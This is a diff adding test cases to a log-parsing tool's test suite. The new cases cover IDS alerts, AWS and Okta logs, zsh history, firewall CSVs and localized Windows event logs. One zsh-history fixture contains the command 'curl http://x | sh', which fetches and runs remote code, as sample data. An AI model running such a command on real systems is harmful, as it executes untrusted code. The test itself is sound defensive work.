@@ -238,6 +238,34 @@ const CASES: readonly ToolCase[] = [
     '[core:error] AH00126',
     '00.123456',
   ],
+  [
+    'alerts of Suricata',
+    'log-lines',
+    '01/05/2023-15:05:00.667372  [**] [1:20:4] ET MALWARE [**] {TCP} 1.2.3.4:80 -> 10.0.0.5:49152\n',
+    '[**] [1:20:4] ET MALWARE [**] {TCP} 1.2.3.4:80 -> 10.0.0.5:49152',
+    '00.667372',
+  ],
+  [
+    'alerts of Snort, without a year',
+    'log-lines',
+    '01/05-15:05:00.667372  [**] [1:366:11] PING [**] {ICMP} 10.0.0.1 -> 10.0.0.2\n',
+    '[**] [1:366:11] PING [**] {ICMP} 10.0.0.1 -> 10.0.0.2',
+    '00.667372',
+  ],
+  [
+    'a load balancer of AWS',
+    'log-lines',
+    'h2 2023-01-05T14:05:00.115600Z app/web/jf29 192.168.1.10:55753 200 "GET https://x/ HTTP/2.0" "waf,forward"\n',
+    'h2 app/web/jf29 192.168.1.10:55753 200 "GET https://x/ HTTP/2.0" "waf,forward"',
+    '00.115600',
+  ],
+  [
+    'a bucket of AWS',
+    'log-lines',
+    '79a59 BUCKET [05/Jan/2023:14:05:00 +0000] 192.0.2.3 - REST.GET.OBJECT photo.jpg 200\n',
+    '79a59 BUCKET 192.0.2.3 - REST.GET.OBJECT photo.jpg 200',
+  ],
+  ['the history of zsh', 'log-lines', ': 1672927500:0;curl http://x | sh\n: 1672927501:0;ls\n', 'curl http://x | sh'],
   ['Squid', 'log-lines', '1672927500.123    200 10.0.0.1 TCP_MISS/200\n', '200 10.0.0.1 TCP_MISS/200', '00.123'],
   [
     'the audit log of Linux',
@@ -383,5 +411,51 @@ describe('the files of programs', () => {
       '\t\tMicrosoft DHCP Service Activity Log\r\n\r\nEvent ID  Meaning\r\n00\tThe log was started.\r\n\r\nID,Date,Time,Description,IP Address,Host Name\r\n10,01/25/23,14:05:07,Assign,10.0.0.5,ws-01\r\n';
     expect(eventsIn(readAll(dhcp).rows)).toMatchObject([{ title: 'Assign', involved: ['ws-01'] }]);
     expect(readAll('Date,Event\n2023-01-05,Event\n').reading.found?.above).toEqual([]);
+  });
+
+  it('say how it went, without which a failed sign-in would be told as one', () => {
+    const titlesIn = (file: string) => eventsIn(readAll(file).rows).map(({ title }) => title);
+    const okta = { displayMessage: 'User login to Okta', published: '2023-01-05T14:05:00Z' };
+    const outcomes = [{ result: 'FAILURE', reason: 'X' }, { result: 'SUCCESS' }];
+    expect(titlesIn(linesOf(...outcomes.map((outcome) => ({ ...okta, outcome }))))).toEqual([
+      'User login to Okta · FAILURE',
+      'User login to Okta · SUCCESS',
+    ]);
+    const trail = { eventTime: '2023-01-05T14:05:00Z', eventName: 'CreateAccessKey' };
+    expect(titlesIn(linesOf(trail, { ...trail, errorCode: 'AccessDenied' }))).toEqual([
+      'CreateAccessKey',
+      'CreateAccessKey · AccessDenied',
+    ]);
+    // What people write there is told in words of its own, and what has lines is a message.
+    expect(titlesIn('when,event,result\n2023,Scan,we found three hosts\n')).toEqual(['Scan']);
+    expect(titlesIn(linesOf({ '@timestamp': '2023', message: 'A\nB', event: { outcome: 'failure' } }))).toEqual(['A']);
+  });
+
+  it('say which process, who came from where, and the folder before its file', () => {
+    const titlesIn = (file: string) => eventsIn(readAll(file).rows).map(({ title }) => title);
+    expect(titlesIn('Event Time,Event Type,Process Name\n2023-01-05 14:05,Process Creation,p.exe\n')).toEqual([
+      'Process Creation · p.exe',
+    ]);
+    expect(titlesIn('date_first,user_id,username,ip\n1672927500,U1,ada,1.2.3.4\n')).toEqual(['ada · 1.2.3.4']);
+    expect(
+      titlesIn('Time,Action,Source,Destination,Service\n2023-01-05T14:05:00Z,Drop,10.0.0.5,1.2.3.4,ssh\n'),
+    ).toEqual(['Drop · 10.0.0.5 → 1.2.3.4 · ssh']);
+  });
+
+  it('say what is none of them, and what to do with it', () => {
+    const refusalOf = (file: string | Uint8Array) => readAll(file).refusal;
+    expect(refusalOf('<?xml version="1.0"?><Events/>')).toContain('This is XML or HTML');
+    expect(refusalOf('ElfFile\0\0')).toContain('EvtxECmd');
+    expect(refusalOf('regf\0')).toContain('RECmd');
+    expect(refusalOf(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1]))).toContain('older Office');
+    expect(readAll('<34>Jan  5 14:05:00 web01 su: failed\n').reading.found?.format).toBe('log-lines');
+  });
+
+  it('may be the viewer of Windows’ logs in another language', () => {
+    const file =
+      'Ebene,Datum und Uhrzeit,Quelle,Ereignis-ID,Aufgabenkategorie\nInformationen,25.01.2023 14:05:07,SCM,7045,Keine,"Ein Dienst wurde installiert."\n';
+    expect(eventsIn(readAll(file).rows)).toMatchObject([
+      { title: 'Ein Dienst wurde installiert.', start: { statedAs: '25.01.2023 14:05:07' } },
+    ]);
   });
 });
